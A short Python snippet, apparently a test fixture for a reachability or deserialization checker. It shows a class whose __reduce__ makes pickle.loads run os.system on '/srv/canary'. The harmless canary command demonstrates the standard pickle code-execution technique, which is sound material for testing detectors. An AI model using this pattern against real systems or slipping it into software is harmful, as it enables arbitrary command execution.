# reaches: an object whose __reduce__ is honoured on loading
import os, pickle
class Model:
    def __reduce__(self):
        return os.system, ("/srv/canary",)
pickle.loads(pickle.dumps(Model()))
